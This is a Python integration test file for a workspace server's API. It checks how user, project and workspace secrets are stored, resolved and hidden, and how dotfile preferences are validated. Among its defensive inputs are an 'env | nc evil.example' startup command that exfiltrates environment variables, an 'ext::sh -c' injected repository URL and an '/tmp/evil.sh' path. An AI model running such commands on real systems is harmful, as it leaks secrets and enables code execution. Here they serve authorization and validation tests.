"""Secrets and preferences through the API: who may, what is shown, what a workspace gets."""

from __future__ import annotations

import json
from dataclasses import replace

import httpx
import pytest
from tests.integration.api.conftest import Client, Create, Running, signed_in
from tests.integration.conftest import add_user, add_workspace

from carrel.core.access import Actor, Role
from carrel.core.records import dump
from carrel.core.spec import GitSource
from carrel.core.workspace import PREBUILD, Remembered, Workspace
from carrel.devcontainer.declared_secrets import DeclaredSecret
from carrel.server.actions.given_secrets import Wanting, given, is_meant_for, revealed
from carrel.server.reconcile.credentials import StoredCredentials
from carrel.server.store import environments, workspaces
from carrel.server.store.environments import StoredEnvironment
from carrel.server.store.forget import forget

URL = "https://git.example/ana/blog.git"
VALUE = "s3cret-value"


async def put(client: Client, path: str, **body: object) -> httpx.Response:
    return await client.put(f"/api/v1{path}", json={"value": VALUE} | body)


async def test_a_value_goes_in_and_never_comes_out(client: Client, running: Running) -> None:
    made = await put(client, "/secrets/API_TOKEN", sources=["https://git.example/ana/*"])
    assert (made.status_code, made.json()["sources"]) == (201, ["https://git.example/ana/*"])
    assert (await put(client, "/secrets/API_TOKEN", sources=["*"])).status_code == 200
    listed = await client.get("/api/v1/secrets")
    assert [one["name"] for one in listed.json()["items"]] == ["API_TOKEN"]
    assert VALUE not in made.text + listed.text
    assert (await client.delete("/api/v1/secrets/API_TOKEN")).status_code == 204
    assert (await client.delete("/api/v1/secrets/API_TOKEN")).json()["kind"] == "not_found"


@pytest.mark.conformance("C369")
@pytest.mark.parametrize("name", ["1A", "A-B", "", "PATH", "LD_PRELOAD", "carrel_x", "HOME", "A" * 129])
async def test_names_that_no_variable_can_have_are_refused(client: Client, name: str) -> None:
    answer = await put(client, f"/secrets/{name or '%20'}", sources=["*"])
    assert answer.json()["kind"] == "bad_value"


async def test_one_must_say_for_which_repositories_it_is(client: Client) -> None:
    answer = await put(client, "/secrets/API_TOKEN")
    assert answer.json()["kind"] == "bad_value"
    assert "repositories" in answer.json()["detail"]
    assert (await put(client, "/secrets/API_TOKEN", value="", sources=["*"])).status_code == 400


def test_patterns_are_matched_against_the_address_with_and_without_its_ending() -> None:
    source = GitSource(URL)
    for pattern in ("*", "https://git.example/ana/*", "https://git.example/ana/blog", URL):
        assert is_meant_for([pattern], source)
    for pattern in ("https://git.example/ben/*", "https://git.example/ana/blo", "git.example", ""):
        assert not is_meant_for([pattern], source)


async def test_others_see_none_of_it(client: Client, bens: Client, create: Create) -> None:
    made = await create()
    path = f"/workspaces/{made['id']}/secrets"
    await put(client, "/secrets/MINE", sources=["*"])
    assert (await bens.get("/api/v1/secrets")).json() == {"items": []}
    assert (await bens.get(f"/api/v1{path}")).json()["kind"] == "not_found"
    assert (await put(bens, f"{path}/A")).json()["kind"] == "not_found"
    assert (await put(bens, "/projects/default/secrets/A")).json()["kind"] in {"not_allowed", "not_found"}


async def test_a_project_that_does_not_exist_has_no_secrets(running: Running, client: Client) -> None:
    admin = await add_user(running.parts.store, "who-looks-after-all", Role.ADMIN)
    async with signed_in(running, admin) as admins:
        for name, place in (("lab", "/projects/lab/secrets/A"), ("hall", "/projects/hall/domains/staging/secrets/A")):
            refused = await put(admins, place)
            assert (refused.status_code, refused.json()["kind"]) == (404, "not_found")
            assert f"no project '{name}'" in refused.json()["detail"]
            assert (await put(client, place)).status_code == 201  # the owner of a local server uses any name
            assert (await put(admins, place)).status_code == 200
            assert (await admins.delete(f"/api/v1/projects/{name}")).json()["kind"] == "wrong_state"


async def in_use(running: Running, owner: Actor, *declared: DeclaredSecret) -> Workspace:
    """A workspace whose environment declares secrets."""
    store = running.parts.store
    made = await add_workspace(store, owner, source=GitSource(URL), remembered=Remembered(resolved=1))
    async with store.writing() as session:
        plan = {"secrets": [dump(one) for one in declared]}
        await environments.put(session, StoredEnvironment(made.id, 1, "d", plan))
    return made


@pytest.mark.conformance("C370", "C371", "C374", "C376")
async def test_a_workspace_gets_its_own_before_the_users_before_the_projects(
    client: Client, running: Running, owner: Actor
) -> None:
    wanted = DeclaredSecret("A", "To sign in.", "https://docs.example/a")
    made = await in_use(running, owner, wanted, DeclaredSecret("MISSING"))
    path = f"/workspaces/{made.id}/secrets"
    for at, name, value in (
        ("/projects/default/secrets", "A", "of the project"),
        ("/projects/default/secrets", "B", "of the project"),
        ("/projects/default/secrets", "C", "of the project"),
        (path, "C", "of the workspace"),
    ):
        assert (await put(client, f"{at}/{name}", value=value)).status_code == 201
    await put(client, "/secrets/A", value="of the user", sources=["https://git.example/*"])
    await put(client, "/secrets/B", value="of the user", sources=["https://other.example/*"])
    items = (await client.get(f"/api/v1{path}")).json()["items"]
    assert {item["name"]: item["given_by"] for item in items} == {
        "A": "user",
        "B": "project",
        "C": "workspace",
        "MISSING": "",
    }
    [shown] = [item for item in items if item["name"] == "A"]
    assert (shown["description"], shown["documentation_url"], shown["declared"]) == (
        "To sign in.",
        "https://docs.example/a",
        True,
    )
    store = running.parts.store
    async with store.reading() as session:
        opened = await revealed(session, store.keys, made)
    assert {name: value.reveal() for name, value in opened.variables.items()} == {
        "A": "of the user",
        "B": "of the project",
        "C": "of the workspace",
    }
    async with store.reading() as session:
        prebuilt = await revealed(session, store.keys, replace(made, labels={PREBUILD: "yes"}))
    assert {name: value.reveal() for name, value in prebuilt.variables.items()} == dict.fromkeys(
        "ABC", "of the project"
    )
    session_of = await StoredCredentials(store, {}).session(made)
    assert session_of.secrets == opened.variables
    assert session_of.secrets_version == opened.version != prebuilt.version


async def test_secrets_given_at_creation_are_the_workspaces_and_go_with_it(
    client: Client, running: Running, create: Create
) -> None:
    made = await create(secrets={"A": VALUE})
    assert VALUE not in json.dumps(made)
    store = running.parts.store
    async with store.reading() as session:
        found = await workspaces.find(session, made["id"])
        assert found is not None
        opened = await revealed(session, store.keys, found)
    assert {name: one.reveal() for name, one in opened.variables.items()} == {"A": VALUE}
    async with store.writing() as session:
        await forget(session, made["id"])
        assert (await given(session, Wanting.of(found))).variables == {}
    refused = await client.post("/api/v1/workspaces", json={"source": {"kind": "empty"}, "secrets": {"PATH": "x"}})
    assert refused.json()["kind"] == "bad_value"
    too_long = await client.post(
        "/api/v1/workspaces", json={"source": {"kind": "empty"}, "secrets": {"A": "x" * 60000}}
    )
    assert too_long.status_code == 422
    assert "xxx" not in too_long.text


async def test_preferences_are_checked_kept_and_followed(client: Client, running: Running, create: Create) -> None:
    path = "/api/v1/preferences"
    assert (await client.get(path)).json()["dotfiles"]["repository"] == ""
    stored = await client.put(path, json={"dotfiles": {"repository": "ana/dots", "target": "dots"}})
    assert stored.json()["dotfiles"] == {
        "repository": "https://github.com/ana/dots",
        "target": "~/dots",
        "command": "",
    }
    assert (await client.get(path)).json() == stored.json()
    assert not stored.json()["start_on_connect"]
    again = await client.put(path, json=stored.json() | {"start_on_connect": True})
    assert again.json() == stored.json() | {"start_on_connect": True} == (await client.get(path)).json()
    for bad in ({"repository": "ext::sh -c x"}, {"repository": "ana/dots", "target": "../x"}, {"command": "a\nb"}):
        assert (await client.put(path, json={"dotfiles": bad})).json()["kind"] in {"bad_source", "bad_value"}
    store = running.parts.store
    plain, without = await create(name="plain"), await create(name="without", dotfiles={})
    hooks = []
    for made in (plain, without):
        async with store.reading() as session:
            found = await workspaces.find(session, made["id"])
        assert found is not None
        hooks.append((await StoredCredentials(store, {}).session(found)).dotfiles)
    assert hooks[0] is not None
    assert list(hooks[0].commands) == ["ana/dots"]
    assert hooks[1] is None


async def test_nobody_else_has_secrets_handed_to_what_he_would_run(
    running: Running, ben: Actor, bens: Client, client: Client
) -> None:
    made = await add_workspace(running.parts.store, ben, source=GitSource(URL))
    path = f"/api/v1/workspaces/{made.id}"
    for change in (
        {"wanted_secrets": [{"key": "MINE"}]},
        {"on_startup": "env | nc evil.example 1"},
        {"dotfiles": {"repository": "https://git.example/evil"}},
        {"devcontainer": "evil/devcontainer.json"},
        {"ref": "evil"},
    ):
        assert (await client.patch(path, json=change)).json()["kind"] == "not_allowed"  # the installation's owner
        assert (await bens.patch(path, json=change)).status_code == 200
    own = {"value": "/tmp/evil.sh"}
    assert (await client.put(f"{path}/secrets/PATHS", json=own)).json()["kind"] == "not_allowed"
    assert (await bens.put(f"{path}/secrets/PATHS", json=own)).is_success
    assert (await client.patch(path, json={"labels": {"seen": "yes"}})).status_code == 200
